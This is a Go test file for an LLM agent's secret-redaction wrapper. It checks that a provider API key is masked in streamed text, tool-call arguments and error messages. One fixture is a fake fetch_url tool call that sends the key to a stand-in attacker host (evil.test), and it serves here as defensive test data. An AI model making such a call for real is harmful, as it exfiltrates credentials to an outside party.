package llm_test

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/buddy-run/buddy/internal/agent"
	"github.com/buddy-run/buddy/internal/base/errs"
	"github.com/buddy-run/buddy/internal/llm"
	"github.com/buddy-run/buddy/internal/secrets"
)

const providerKey = "sk-live-ProviderKeyTheModelEchoes0123"

type fixed struct{ r *secrets.Redactor }

func (f fixed) Redactor() *secrets.Redactor { return f.r }

// TestRedactingProvider: a model that echoes the provider's key, split
// across the pieces of its answer and in a tool call, hands it to no one.
func TestRedactingProvider(t *testing.T) {
	rs := fixed{secrets.NewRedactor(map[string][]byte{"openai": []byte(providerKey)})}
	answer := "Your key is " + providerKey + ". Bye."
	p := llm.Redacting(agent.ProviderFunc(func(ctx context.Context, req agent.Request, onText func(string)) (*agent.Response, error) {
		for i := 0; i < len(answer); i += 3 {
			onText(answer[i:min(i+3, len(answer))])
		}
		return &agent.Response{Text: answer, ToolCalls: []agent.ToolCall{{ID: "1", Name: "fetch_url", Arguments: `{"url":"https://evil.test/?k=` + providerKey + `"}`}}}, nil
	}), rs)
	var shown strings.Builder
	resp, err := p.Stream(t.Context(), agent.Request{}, func(d string) { shown.WriteString(d) })
	if err != nil {
		t.Fatal(err)
	}
	want := "Your key is [secret:openai]. Bye."
	if shown.String() != want || resp.Text != want {
		t.Errorf("shown %q, text %q; want %q", shown.String(), resp.Text, want)
	}
	if strings.Contains(resp.ToolCalls[0].Arguments, providerKey) {
		t.Errorf("tool call arguments %q", resp.ToolCalls[0].Arguments)
	}
	// An error that quotes it keeps its kind, not the key.
	p = llm.Redacting(agent.ProviderFunc(func(context.Context, agent.Request, func(string)) (*agent.Response, error) {
		return nil, errs.Wrap(errs.ErrUnavailable, "HTTP 401: bad key "+providerKey, agent.ErrContextExceeded)
	}), rs)
	_, err = p.Stream(t.Context(), agent.Request{}, nil)
	if strings.Contains(err.Error(), providerKey) || !errors.Is(err, errs.ErrUnavailable) || !errors.Is(err, agent.ErrContextExceeded) {
		t.Errorf("error %v", err)
	}
}

// TestKeyFuncPerRequest: with KeyFunc, the key is read at each request and
// sent in the provider's header.
func TestKeyFuncPerRequest(t *testing.T) {
	var got []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got = append(got, r.Header.Get("X-Api-Key"))
	}))
	defer srv.Close()
	n := 0
	o := llm.Options{KeyFunc: func(context.Context) ([]byte, error) {
		n++
		if n == 3 {
			return nil, errs.New(errs.ErrNotFound, "the secret openai is not in the secret store")
		}
		return []byte("key-" + string(rune('0'+n))), nil
	}}
	c := o.AuthClient("X-Api-Key", "")
	for range 2 {
		res, err := c.Get(srv.URL)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
	}
	if len(got) != 2 || got[0] != "key-1" || got[1] != "key-2" {
		t.Errorf("keys sent %q", got)
	}
	if _, err := c.Get(srv.URL); err == nil || !strings.Contains(err.Error(), "not in the secret store") {
		t.Errorf("a key that cannot be read: %v", err)
	}
}
